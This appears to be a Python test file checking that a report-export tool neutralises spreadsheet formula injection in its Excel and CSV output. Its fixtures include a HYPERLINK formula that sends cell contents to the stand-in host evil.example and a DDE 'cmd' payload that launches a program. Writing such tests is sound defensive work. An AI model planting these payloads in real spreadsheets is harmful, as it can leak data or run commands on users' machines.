"""A report line that looks like a spreadsheet formula is stored as text in every workbook and
CSV we write (OWASP's CSV-injection rule), never run by Excel."""
import csv

import openpyxl

from reportdesk.align import align_files, bundled_taxonomies
from reportdesk.export.compile import ExportOptions
from reportdesk.export.matrix_sheet import write_matrix_xlsx
from reportdesk.export.points_table import write_points_xlsx
from reportdesk.export.table import write_table_xlsx
from reportdesk.figures.facts import collect_facts
from reportdesk.figures.tables import long_table, write_csv, write_xlsx
from reportdesk.model import Document, Paragraph, ParsedFile
from reportdesk.structure import build_reports

HOSTILE = ('=HYPERLINK("http://evil.example/"&A1,"点击")新建学校3所，新增学位2400个。',
           "+cmd|' /C calc'!A0 开展教师培训3000人次，培训骨干教师200人。",
           "@SUM(1+1) 党支部书记培训2次，开展党风廉政警示教育。",
           "-2+3 排查校园安全隐患86处。")


def hostile_alignment():
    lines = ("2021年教育工作总结", "一、主要成效", *HOSTILE)
    reports = build_reports(Document("a.txt", tuple(Paragraph(t) for t in lines), "UTF-8"))
    return align_files([ParsedFile("a.txt", "UTF-8", None, reports)], bundled_taxonomies()[0])


def cells_of(path):
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_no_workbook_we_write_holds_a_formula(tmp_path):
    alignment = hostile_alignment()
    facts = collect_facts(alignment)
    written = [write_matrix_xlsx(alignment, tmp_path / "矩阵.xlsx"),
               write_table_xlsx(alignment, tmp_path / "对照表.xlsx", ExportOptions(mode="table", cell_chars=500))]
    write_points_xlsx(tmp_path / "要点.xlsx", "要点", ["甲县"], [("党建", [([HOSTILE[2]], ["2次"])])])
    write_xlsx(long_table(facts), tmp_path / "指标.xlsx")
    written += [tmp_path / "要点.xlsx", tmp_path / "指标.xlsx"]
    for path in written:
        cells = cells_of(path)
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert any(t.startswith(("=", "+", "@")) or "HYPERLINK" in t or "cmd|" in t for t in texts), path.name


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(tmp_path):
    facts = collect_facts(hostile_alignment())
    write_csv(long_table(facts), tmp_path / "指标.csv")
    rows = list(csv.reader((tmp_path / "指标.csv").read_text(encoding="utf-8-sig").splitlines()))
    values = [v for row in rows[1:] for v in row]
    assert any(v.startswith("'=HYPERLINK") for v in values)
    assert not any(v.startswith(("=", "+", "@")) for v in values)
